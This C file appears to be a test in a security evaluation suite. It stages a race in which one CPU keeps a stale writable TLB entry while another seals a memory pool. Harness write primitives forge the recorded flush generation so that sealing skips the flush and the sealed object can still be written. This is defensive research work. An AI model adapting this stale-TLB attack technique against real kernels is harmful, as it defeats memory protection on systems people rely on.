/*
 * One processor has a writable translation of an open pool in its TLB, and stays in the kernel
 * while another seals the pool. The other one is told that the first has flushed already.
 */
#include "attack.h"

#define OTHER_VALUE 0x0bad0bad0bad0badul
enum { CPU_OF_SEALER, CPU_OF_WRITER, NR_CPUS };
enum { STAGE_KNOWN = 1, STAGE_WRITTEN };
/* Later than any generation that will come. */
#define GENERATION_LATEST UINT64_MAX

static uint64_t object;
static struct bw_leak of_writer;
static attack_stage stage;

static void writer(void *unused)
{
	(void)unused;
	attack_leak(&of_writer);
	attack_tell(&stage, STAGE_KNOWN);
	attack_check("vuln_write_parked", bw_vuln_write_parked(object, OTHER_VALUE));
	attack_tell(&stage, STAGE_WRITTEN);
}

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, NR_CPUS, CPU_OF_SEALER);
	object = attack_pool_open();
	attack_thread(CPU_OF_WRITER, writer, NULL);
	attack_await(&stage, STAGE_KNOWN, AWAIT_YIELD);
	attack_await_parked(1);
	attack_say("CPU %d waits in the kernel, and has flushed up to generation %ld: %lu says the "
		   "word at 0x%lx from now on",
		   CPU_OF_WRITER, bw_vuln_read(of_writer.tlb_seen), GENERATION_LATEST,
		   of_writer.tlb_seen);
	/* that processor puts it right itself, at its next way into the kernel */
	attack_check("vuln_write", bw_vuln_write(of_writer.tlb_seen, GENERATION_LATEST));
	if (of_writer.tlb_seen_kept != 0) {
		attack_say("the gate believes the word at 0x%lx alone", of_writer.tlb_seen_kept);
		attack_check("vuln_write",
			     bw_vuln_write(of_writer.tlb_seen_kept, GENERATION_LATEST));
	}
	attack_pool_seal(object);
	attack_say("CPU %d has sealed the pool, and has waited for nobody; CPU %d writes again",
		   CPU_OF_SEALER, CPU_OF_WRITER);
	bw_vuln_unpark(true);
	attack_await(&stage, STAGE_WRITTEN, AWAIT_YIELD);
	attack_say("the sealed object begins with 0x%lx", (uint64_t)bw_vuln_read(object));
	return attack_finish();
}
